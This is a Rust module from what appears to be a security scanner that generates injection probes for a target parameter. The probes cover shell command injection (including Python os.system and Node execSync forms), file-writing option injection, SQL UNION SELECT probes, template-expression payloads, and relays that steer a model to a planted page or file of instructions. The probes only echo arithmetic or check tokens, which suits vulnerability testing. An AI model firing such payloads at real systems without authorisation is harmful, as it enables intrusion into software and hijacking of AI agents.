//! Attempts to have input executed: as a command, an option, a query or a template, or as instructions to a model.

use super::{Attempt, Planner, Proof};
use crate::attack::pages::Place;
use crate::attack::parameters::Parameter;

/// The numbers of columns that a second query is tried with.
const COLUMNS: usize = 10;

impl Planner<'_> {
    pub(super) fn commands(&self, parameter: &Parameter) -> Vec<Attempt> {
        let forms = [
            ("a command after a semicolon", "karat; COMMAND"),
            ("a command after an and", "karat && COMMAND"),
            ("a command after a pipe", "karat | COMMAND"),
            ("a command substitution", "$(COMMAND)"),
            ("a command in backticks", "`COMMAND`"),
            ("a command on the next line", "karat\nCOMMAND"),
            ("a command after a single quote", "karat'; COMMAND; echo '"),
            ("a command after a double quote", "karat\"; COMMAND; echo \""),
            ("a Python expression", "__import__('os').system('COMMAND')"),
            ("a JavaScript expression", "require('child_process').execSync('COMMAND')"),
        ];
        let attempt = |(about, form): &(&str, &str)| {
            let mark = self.site.mark(self.site.number());
            let product = self.product();
            let command = format!("echo $(({product})) > {} ; echo $(({product}))", mark.display());
            let proofs = vec![Proof::Mark(mark), Proof::Product];
            self.sent(parameter, about, form.replace("COMMAND", &command), proofs)
        };
        forms.iter().map(attempt).collect()
    }

    pub(super) fn arguments(&self, parameter: &Parameter) -> Vec<Attempt> {
        ["--output=MARK", "-oMARK", "--log-file=MARK", "--file=MARK"]
            .iter()
            .map(|form| {
                let mark = self.site.mark(self.site.number());
                let text = form.replace("MARK", &mark.display().to_string());
                self.sent(parameter, "an option that writes a file", text, vec![Proof::Mark(mark)])
            })
            .collect()
    }

    pub(super) fn queries(&self, parameter: &Parameter) -> Vec<Attempt> {
        // The simplest first: a quoted text in a query for any number of columns.
        let starts = [("karat'", COLUMNS), ("0", 3), ("karat\"", 2), ("karat')", 2)];
        let forms = starts
            .iter()
            .flat_map(|(start, most)| (1..=*most).map(move |columns| (*start, columns)));
        let attempt = |(start, columns): (&str, usize)| {
            let selected = vec![self.product(); columns].join(",");
            let text = format!("{start} UNION SELECT {selected} -- ");
            self.sent(parameter, "a second query", text, vec![Proof::Product])
        };
        forms.map(attempt).collect()
    }

    pub(super) fn templates(&self, parameter: &Parameter) -> Vec<Attempt> {
        ["{{P}}", "${P}", "<%= P %>", "#{P}", "{P}", "@(P)"]
            .iter()
            .map(|form| {
                let text = form.replace('P', &self.product());
                self.sent(parameter, "a template", text, vec![Proof::Product])
            })
            .collect()
    }

    pub(super) fn relays(&self, parameter: &Parameter) -> Vec<Attempt> {
        let proof =
            || vec![Proof::Token("the text with instructions", self.site.relay_token.clone())];
        let mut found = Vec::new();
        if parameter.is_url() {
            let (url, _) = self.address("127.0.0.1", Place::Orders);
            found.push(self.sent(parameter, "a page with instructions", url, proof()));
        }
        if let Some(planted) = self.site.in_root().filter(|_| parameter.is_path()) {
            let file = planted.orders.display().to_string();
            found.push(self.sent(parameter, "a file with instructions", file, proof()));
        }
        found
    }
}
